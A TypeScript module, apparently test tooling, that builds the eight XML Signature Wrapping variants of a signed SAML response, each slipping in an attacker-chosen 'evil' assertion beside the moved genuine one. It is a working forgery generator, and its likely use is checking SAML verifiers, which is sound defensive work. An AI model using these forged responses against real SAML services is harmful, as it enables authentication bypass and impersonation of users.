const part = (xml: string, name: string) => {
  const found = new RegExp(`<${name}[ >][\\s\\S]*</${name}>`).exec(xml)?.[0];
  if (found === undefined) throw new Error(`no ${name}`);
  return found;
};

/**
 * The eight ways of wrapping signatures (Somorovsky et al., 2012; numbered as by SAML Raider), made of an answer that is really
 * signed: what was signed is moved, and something else stands where it stood.
 */
export function wrapped(xml: string, evil: (assertion: string) => string): Record<string, string> {
  const assertion = part(xml, 'saml:Assertion');
  const signature = part(assertion, 'ds:Signature');
  const bare = assertion.replace(signature, '');
  const other = evil(bare).replace(/ ID="[^"]*"/, ' ID="_evil"');
  const within = (text: string, more: string, end: string) => text.replace(end, `${more}${end}`);
  const instead = (by: string) => xml.replace(assertion, by);
  const root = (xml.match(/^<samlp:Response[^>]*>/) ?? [''])[0];
  const evilRoot = root.replace(/ ID="[^"]*"/, ' ID="_evilresponse"');
  const [issuer, status] = [
    part(xml.replace(assertion, ''), 'saml:Issuer'),
    part(xml, 'samlp:Status'),
  ];
  const around = (inner: string) => `${evilRoot}${issuer}${status}${inner}</samlp:Response>`;
  const signedEvil = other.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
  return {
    1: around(`${within(signature, xml, '</ds:Signature>')}${other}`),
    2: around(`${xml}${signature}${other}`),
    3: instead(`${other}${assertion}`),
    4: instead(within(other, assertion, '</saml:Assertion>')),
    5: instead(`${signedEvil}${bare}`),
    6: instead(signedEvil.replace(signature, within(signature, bare, '</ds:Signature>'))),
    7: instead(`<samlp:Extensions>${other}</samlp:Extensions>${assertion}`),
    8: instead(
      signedEvil.replace(
        signature,
        within(signature, `<ds:Object>${bare}</ds:Object>`, '</ds:Signature>'),
      ),
    ),
  };
}
